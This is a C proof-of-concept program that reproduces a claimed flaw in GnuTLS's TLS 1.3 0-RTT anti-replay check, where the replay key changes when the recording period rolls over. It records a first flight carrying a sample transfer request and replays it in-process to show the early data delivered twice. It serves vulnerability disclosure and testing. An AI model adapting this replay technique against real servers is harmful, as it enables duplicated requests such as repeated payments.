/*
 * Finding: GnuTLS's TLS 1.3 anti-replay accepts a replayed 0-RTT first flight
 * once its recording period has rolled over, although the replay comes well
 * within the window of the original.
 *
 * The anti-replay context (gnutls_anti_replay_init) asks the application's
 * store (gnutls_anti_replay_set_add_function) whether a ClientHello was seen.
 * The key it stores is the start of the current recording period followed by
 * the ClientHello's PSK binder (lib/tls13/anti_replay.c). When a window has
 * passed since the period started, the next check starts a new period, so
 * the same ClientHello gets a new key, the store has never seen it, and its
 * early data is delivered a second time.
 *
 * Self-contained: uses only libgnutls, on the real clock. Client and server
 * run in this one process over in-memory buffers; the server's certificate is
 * generated at run time. Runs for about 1.5 s (window 1 s).
 *
 *   cc -o repro repro.c $(pkg-config --cflags --libs gnutls) && ./repro
 *
 * Timeline (seconds after gnutls_anti_replay_init, which starts the first
 * recording period):
 *   ~0.0   full handshake, ticket issued (the server allows early data)
 *    0.5   resumption with early data; its first flight is recorded
 *    0.7   the recorded flight replayed to a fresh server session
 *          -> refused: same period, the store has the key (control)
 *    1.2   replayed again (1.2 > window: the check starts a new period;
 *          0.7 s after the original, within the window of its ticket age)
 *          -> early data delivered again
 *    1.4   replayed once more -> refused: the ticket is older than the new
 *          period (control)
 *
 * Output: one line per step, then
 *   FINDING anti_replay_rollover_accepts_replay: yes|no
 * Exit status: 0 when the program ran, 2 on a setup failure, 3 when the
 * machine was too slow for the timeline (the steps' times are printed; run
 * it again).
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <gnutls/gnutls.h>
#include <gnutls/x509.h>

#define PRIO "NORMAL:-VERS-ALL:+VERS-TLS1.3"
#define WINDOW_MS 1000
#define EARLY "POST /transfer amount=100&to=mallory"

#define CHECK(x) do { int r_ = (x); if (r_ < 0) { \
	fprintf(stderr, "%s:%d: %s: %s\n", __FILE__, __LINE__, #x, gnutls_strerror(r_)); \
	exit(2); } } while (0)

/* ---- in-memory transport: one byte queue per direction ---- */
struct queue { unsigned char *data; size_t len, cap; };
struct end { struct queue *in, *out; };

static void q_append(struct queue *q, const void *p, size_t n)
{
	if (q->len + n > q->cap) {
		q->cap = (q->len + n) * 2;
		q->data = realloc(q->data, q->cap);
		if (!q->data) abort();
	}
	memcpy(q->data + q->len, p, n);
	q->len += n;
}

static ssize_t push(gnutls_transport_ptr_t ptr, const void *p, size_t n)
{
	q_append(((struct end *)ptr)->out, p, n);
	return n;
}

static ssize_t pull(gnutls_transport_ptr_t ptr, void *p, size_t n)
{
	struct queue *q = ((struct end *)ptr)->in;
	if (q->len == 0) { errno = EAGAIN; return -1; }
	if (n > q->len) n = q->len;
	memcpy(p, q->data, n);
	memmove(q->data, q->data + n, q->len - n);
	q->len -= n;
	return n;
}

static int pull_timeout(gnutls_transport_ptr_t ptr, unsigned ms)
{
	(void)ms;
	return ((struct end *)ptr)->in->len > 0;
}

static void attach(gnutls_session_t s, struct end *e)
{
	gnutls_transport_set_ptr(s, e);
	gnutls_transport_set_push_function(s, push);
	gnutls_transport_set_pull_function(s, pull);
	gnutls_transport_set_pull_timeout_function(s, pull_timeout);
}

/* ---- a self-signed ECDSA certificate, made now ---- */
static gnutls_certificate_credentials_t server_credentials(void)
{
	gnutls_x509_privkey_t key;
	gnutls_x509_crt_t crt;
	gnutls_certificate_credentials_t cred;
	unsigned char serial[8] = { 1, 2, 3, 4, 5, 6, 7, 8 };
	time_t now = time(NULL);

	CHECK(gnutls_x509_privkey_init(&key));
	CHECK(gnutls_x509_privkey_generate(key, GNUTLS_PK_ECDSA,
		GNUTLS_CURVE_TO_BITS(GNUTLS_ECC_CURVE_SECP256R1), 0));
	CHECK(gnutls_x509_crt_init(&crt));
	CHECK(gnutls_x509_crt_set_version(crt, 3));
	CHECK(gnutls_x509_crt_set_serial(crt, serial, sizeof serial));
	CHECK(gnutls_x509_crt_set_activation_time(crt, now - 3600));
	CHECK(gnutls_x509_crt_set_expiration_time(crt, now + 86400));
	CHECK(gnutls_x509_crt_set_dn_by_oid(crt, GNUTLS_OID_X520_COMMON_NAME, 0,
		"localhost", 9));
	CHECK(gnutls_x509_crt_set_key(crt, key));
	CHECK(gnutls_x509_crt_sign2(crt, crt, key, GNUTLS_DIG_SHA256, 0));
	CHECK(gnutls_certificate_allocate_credentials(&cred));
	CHECK(gnutls_certificate_set_x509_key(cred, &crt, 1, key));
	gnutls_x509_crt_deinit(crt);
	gnutls_x509_privkey_deinit(key);
	return cred;
}

/* ---- the anti-replay store: remembers every key it is given ---- */
#define MAX_KEYS 16
static struct { unsigned char key[128]; unsigned size; } store[MAX_KEYS];
static int nstored, last_add_fresh;
static unsigned char last_period[12];   /* the period start at the front of the last key */

static int store_add(void *ptr, time_t exp_time, const gnutls_datum_t *key,
		     const gnutls_datum_t *data)
{
	int i;
	(void)ptr; (void)exp_time; (void)data;
	if (key->size >= 12) memcpy(last_period, key->data, 12);
	for (i = 0; i < nstored; i++)
		if (store[i].size == key->size && memcmp(store[i].key, key->data, key->size) == 0) {
			last_add_fresh = 0;
			return GNUTLS_E_DB_ENTRY_EXISTS;
		}
	if (nstored == MAX_KEYS || key->size > sizeof store[0].key) return GNUTLS_E_MEMORY_ERROR;
	memcpy(store[nstored].key, key->data, key->size);
	store[nstored++].size = key->size;
	last_add_fresh = 1;
	return 0;
}

/* ---- the lab: one credentials set, one ticket key, one anti-replay context ---- */
static gnutls_certificate_credentials_t scred, ccred;
static gnutls_datum_t ticket_key;
static gnutls_anti_replay_t anti_replay;
static struct timespec t0;

static double since_start(void)
{
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);   /* the clock gnutls_gettime() reads */
	return (now.tv_sec - t0.tv_sec) + (now.tv_nsec - t0.tv_nsec) / 1e9;
}

static void sleep_until(double t)
{
	double left = t - since_start();
	if (left > 0) {
		struct timespec ts = { (time_t)left, (long)((left - (time_t)left) * 1e9) };
		nanosleep(&ts, NULL);
	}
}

static gnutls_session_t new_server(struct end *e)
{
	gnutls_session_t s;
	CHECK(gnutls_init(&s, GNUTLS_SERVER | GNUTLS_NONBLOCK | GNUTLS_ENABLE_EARLY_DATA));
	CHECK(gnutls_priority_set_direct(s, PRIO, NULL));
	CHECK(gnutls_credentials_set(s, GNUTLS_CRD_CERTIFICATE, scred));
	CHECK(gnutls_session_ticket_enable_server(s, &ticket_key));
	CHECK(gnutls_record_set_max_early_data_size(s, 16384));
	gnutls_anti_replay_enable(s, anti_replay);
	attach(s, e);
	return s;
}

/* A full handshake (data NULL) or a resumption with early data. On a
 * resumption, *flight receives what the client sent before the server
 * answered: its ClientHello and early data, as a network observer records
 * them. Returns the client's session data (the ticket) after a full one. */
static gnutls_datum_t connect_once(const gnutls_datum_t *data, struct queue *flight,
				   int *resumed, int *early_ok)
{
	struct queue c2s = { 0 }, s2c = { 0 };
	struct end ce = { &s2c, &c2s }, se = { &c2s, &s2c };
	gnutls_session_t c, s;
	gnutls_datum_t out = { NULL, 0 };
	int cr = GNUTLS_E_AGAIN, sr = GNUTLS_E_AGAIN, i, first = 1;
	char buf[256];

	s = new_server(&se);
	CHECK(gnutls_init(&c, GNUTLS_CLIENT | GNUTLS_NONBLOCK | GNUTLS_ENABLE_EARLY_DATA));
	CHECK(gnutls_priority_set_direct(c, PRIO, NULL));
	CHECK(gnutls_credentials_set(c, GNUTLS_CRD_CERTIFICATE, ccred));
	attach(c, &ce);
	if (data) {
		CHECK(gnutls_session_set_data(c, data->data, data->size));
		CHECK(gnutls_record_send_early_data(c, EARLY, sizeof EARLY - 1));
	}
	for (i = 0; i < 1000 && (cr != 0 || sr != 0); i++) {
		if (cr != 0) {
			cr = gnutls_handshake(c);
			if (cr < 0 && gnutls_error_is_fatal(cr)) CHECK(cr);
		}
		if (first && flight) {  /* the client's first flight, before the server reads it */
			q_append(flight, c2s.data, c2s.len);
			first = 0;
		}
		if (sr != 0) {
			sr = gnutls_handshake(s);
			if (sr < 0 && gnutls_error_is_fatal(sr)) CHECK(sr);
		}
	}
	if (cr != 0 || sr != 0) { fprintf(stderr, "handshake did not finish\n"); exit(2); }
	if (resumed) *resumed = gnutls_session_is_resumed(c);
	if (early_ok) {
		int n = gnutls_record_recv_early_data(s, buf, sizeof buf);
		*early_ok = n == (int)sizeof EARLY - 1 && memcmp(buf, EARLY, n) == 0;
	}
	if (!data) {  /* let the client read the NewSessionTicket, then keep it */
		CHECK(gnutls_record_send(s, "x", 1));
		for (i = 0; i < 100; i++) {
			int r = gnutls_record_recv(c, buf, sizeof buf);
			if (r == 1) break;
			if (r != GNUTLS_E_AGAIN && r != GNUTLS_E_INTERRUPTED) CHECK(r);
		}
		CHECK(gnutls_session_get_data2(c, &out));
	}
	gnutls_deinit(c);
	gnutls_deinit(s);
	free(c2s.data); free(s2c.data);
	return out;
}

/* An attacker sends the recorded flight to a fresh server session (another
 * process of the same server: same ticket key, same anti-replay store) and
 * never answers. Returns 1 if the server delivered the early data. */
static int replay(const struct queue *flight, int *asked)
{
	struct queue in = { 0 }, out = { 0 };
	struct end se = { &in, &out };
	gnutls_session_t s = new_server(&se);
	int i, n, r;
	char buf[256];

	q_append(&in, flight->data, flight->len);
	last_add_fresh = -1;
	for (i = 0; i < 16; i++) {
		r = gnutls_handshake(s);
		if (r == 0 || (r < 0 && gnutls_error_is_fatal(r)) || in.len == 0) break;
	}
	n = gnutls_record_recv_early_data(s, buf, sizeof buf);
	*asked = last_add_fresh != -1;
	gnutls_deinit(s);
	free(in.data); free(out.data);
	return n == (int)sizeof EARLY - 1 && memcmp(buf, EARLY, n) == 0;
}

static const char *period(void)
{
	static char buf[40];
	unsigned long long sec = (unsigned long long)last_period[0] << 56 | (unsigned long long)last_period[1] << 48 |
		(unsigned long long)last_period[2] << 40 | (unsigned long long)last_period[3] << 32 |
		(unsigned long long)last_period[4] << 24 | last_period[5] << 16 | last_period[6] << 8 | last_period[7];
	unsigned long nsec = (unsigned long)last_period[8] << 24 | last_period[9] << 16 | last_period[10] << 8 |
		last_period[11];
	double at = ((double)sec - t0.tv_sec) + ((double)nsec - t0.tv_nsec) / 1e9;
	snprintf(buf, sizeof buf, "period started at %+.3f s", at);
	return buf;
}

static void say(const char *what, double at, int delivered, int asked)
{
	printf("%-46s at %.3f s: early data %s", what, at, delivered ? "DELIVERED" : "refused");
	if (asked) printf(" (store asked: %s, key's %s)", last_add_fresh ? "new key" : "duplicate", period());
	else printf(" (store not asked)");
	printf("\n");
}

int main(void)
{
	struct queue flight = { 0 };
	gnutls_datum_t ticket;
	int resumed = 0, first_ok = 0, asked, same, rolled, stale;
	double t_resume, t_same, t_rolled, t_stale;
	char buf[64];

	setvbuf(stdout, NULL, _IOLBF, 0);
	CHECK(gnutls_global_init());
	printf("GnuTLS %s, anti-replay window %d ms, real clock\n", gnutls_check_version(NULL), WINDOW_MS);
	scred = server_credentials();
	CHECK(gnutls_certificate_allocate_credentials(&ccred));
	CHECK(gnutls_session_ticket_key_generate(&ticket_key));

	/* the context: its first recording period starts now */
	clock_gettime(CLOCK_REALTIME, &t0);
	CHECK(gnutls_anti_replay_init(&anti_replay));
	gnutls_anti_replay_set_window(anti_replay, WINDOW_MS);
	gnutls_anti_replay_set_add_function(anti_replay, store_add);

	ticket = connect_once(NULL, NULL, NULL, NULL);
	printf("%-46s at %.3f s\n", "ticket issued (full handshake)", since_start());

	sleep_until(0.5);
	t_resume = since_start();
	connect_once(&ticket, &flight, &resumed, &first_ok);
	snprintf(buf, sizeof buf, "resumption with 0-RTT, %zu bytes recorded", flight.len);
	say(buf, t_resume, first_ok, 1);

	sleep_until(0.7);
	t_same = since_start();
	same = replay(&flight, &asked);
	say("replay in the same period", t_same, same, asked);

	sleep_until(1.2);
	t_rolled = since_start();
	rolled = replay(&flight, &asked);
	say("replay after the period rolled over", t_rolled, rolled, asked);

	sleep_until(1.4);
	t_stale = since_start();
	stale = replay(&flight, &asked);
	say("replay once more", t_stale, stale, asked);

	if (!resumed || !first_ok) {
		printf("FINDING anti_replay_rollover_accepts_replay: unknown (the 0-RTT resumption itself failed)\n");
		return 2;
	}
	/* The timeline holds when the resumption came within the first period, the
	 * second replay more than a window after the period began and within a
	 * window of the original. */
	if (t_resume * 1000 > WINDOW_MS || t_rolled * 1000 <= WINDOW_MS ||
	    (t_rolled - t_resume) * 1000 > WINDOW_MS) {
		printf("FINDING anti_replay_rollover_accepts_replay: unknown (the machine was too slow for "
		       "the timeline; run again)\n");
		return 3;
	}
	printf("CONTROL replay_in_same_period_refused: %s\n", same ? "no" : "yes");
	printf("CONTROL replay_after_rollover_refused_later: %s\n", stale ? "no" : "yes");
	printf("FINDING anti_replay_rollover_accepts_replay: %s\n", rolled ? "yes" : "no");
	if (rolled)
		printf("Explanation: the same first flight, replayed %.3f s after the original (window %d ms), "
		       "had its early data delivered a second time: the anti-replay check started a new "
		       "recording period, and the key it gave the store (period start + binder) was new.\n",
		       t_rolled - t_resume, WINDOW_MS);

	gnutls_free(ticket.data);
	gnutls_free(ticket_key.data);
	free(flight.data);
	gnutls_anti_replay_deinit(anti_replay);
	gnutls_certificate_free_credentials(scred);
	gnutls_certificate_free_credentials(ccred);
	gnutls_global_deinit();
	return 0;
}
